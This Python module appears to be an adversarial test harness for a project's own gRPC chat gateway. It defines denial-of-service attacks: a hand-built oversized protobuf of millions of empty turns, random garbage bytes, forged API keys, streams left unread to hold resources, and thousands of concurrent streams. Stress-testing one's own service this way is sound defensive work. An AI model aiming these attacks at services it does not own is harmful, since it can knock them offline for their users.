"""Attacks over gRPC: messages as bytes, so that what is sent need be no message."""

from __future__ import annotations

import asyncio
import os
from collections.abc import Iterable
from pathlib import Path
from typing import Any, ClassVar

import grpc

from hostile.job import Target
from penstock.gateway.v1 import chat_service_pb2 as chat_pb
from penstock.llm.v1 import generation_pb2, message_pb2
from penstock_gateway.domain.access.identity import new_key

CHAT = "/penstock.gateway.v1.ChatService/Chat"
STREAM_CHAT = "/penstock.gateway.v1.ChatService/StreamChat"
_MIB = 1024 * 1024
_TIMEOUT_SECONDS = 30.0
_DEAF_SECONDS = 10.0
_OPTIONS = (
    ("grpc.use_local_subchannel_pool", 1),
    ("grpc.max_send_message_length", -1),
    ("grpc.enable_retries", 0),
)


def channel_to(target: Target) -> grpc.Channel:
    """Return a channel with a connection of its own."""
    if not target.ca:
        return grpc.insecure_channel(target.grpc, options=_OPTIONS)
    return grpc.secure_channel(target.grpc, grpc.ssl_channel_credentials(Path(target.ca).read_bytes()), _OPTIONS)


def chat_request(model: str, text: str) -> chat_pb.StreamChatRequest:
    """Return a request of one turn."""
    turn = message_pb2.Message(role=message_pb2.ROLE_USER, parts=[message_pb2.ContentPart(text=text)])
    return chat_pb.StreamChatRequest(input=generation_pb2.GenerationInput(model=model, messages=[turn]))


class Calls:
    """Makes one call again and again, over a few connections in turn."""

    holds_on: ClassVar[bool] = False
    connections: ClassVar[int] = 4
    timeout: ClassVar[float] = _TIMEOUT_SECONDS

    def __init__(self, target: Target, model: str) -> None:
        self._channels = [grpc.aio.insecure_channel(target.grpc, options=_OPTIONS) for _ in range(self.connections)]
        self._turn = 0
        self._message = self.make(model)

    def make(self, model: str) -> bytes:
        """Return the message."""
        return chat_request(model, "Hi").SerializeToString()

    async def strike(self, key: str) -> Iterable[str]:
        """Call; return the code."""
        return ((await self.called(key)).name,)

    async def called(self, key: str) -> grpc.StatusCode:
        """Return the code of one call."""
        return (
            await self.channel()
            .unary_unary(CHAT)(self._message, metadata=self.metadata(key), timeout=self.timeout)
            .code()
        )

    def channel(self) -> Any:
        """Return the next connection's."""
        self._turn += 1
        return self._channels[self._turn % len(self._channels)]

    def metadata(self, key: str) -> tuple[tuple[str, str], ...]:
        """Return what proves who calls."""
        return (("authorization", f"Bearer {key}"), ("x-penstock-cache", "no-store")) if key else ()

    async def aclose(self) -> None:
        """Close the connections."""
        for channel in self._channels:
            await channel.close()


class Elements(Calls):
    """Millions of empty turns."""

    def make(self, model: str) -> bytes:
        turns = b"\x12\x00" * (16 * _MIB - 64)
        inner = generation_pb2.GenerationInput(model=model).SerializeToString() + turns
        return b"\x0a" + _varint(len(inner)) + inner


class Garbage(Calls):
    """Bytes that are no message."""

    async def called(self, key: str) -> grpc.StatusCode:
        self._message = b"\xff" + os.urandom(4096)
        return await super().called(key)


class Guess(Calls):
    """A key with a right checksum, which nobody has."""

    async def called(self, key: str) -> grpc.StatusCode:
        return await super().called(new_key()[0])


class Deaf(Calls):
    """Asks for 1 MB, as much as the longest answers are, and reads none of it."""

    holds_on = True
    timeout = _DEAF_SECONDS

    def make(self, model: str) -> bytes:
        return chat_request(model, "VAST").SerializeToString()

    async def called(self, key: str) -> grpc.StatusCode:
        call = self.channel().unary_stream(STREAM_CHAT)(
            self._message, metadata=self.metadata(key), timeout=self.timeout
        )
        try:
            await call.initial_metadata()
            # Its code comes where all is read, which this does not.
            await asyncio.sleep(self.timeout + 1)
            return await call.code()
        finally:
            call.cancel()


class Streams(Calls):
    """Thousands of streams on one connection."""

    connections = 1

    async def called(self, key: str) -> grpc.StatusCode:
        call = self.channel().unary_stream(STREAM_CHAT)(
            self._message, metadata=self.metadata(key), timeout=self.timeout
        )
        try:
            async for _ in call:
                pass
        except grpc.aio.AioRpcError as error:
            return error.code()
        return await call.code()


def _varint(value: int) -> bytes:
    out = bytearray()
    while value > 0x7F:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes([*out, value])


WEAPONS = {
    "grpc_elements": Elements,
    "grpc_garbage": Garbage,
    "grpc_guess": Guess,
    "grpc_deaf": Deaf,
    "grpc_streams": Streams,
}
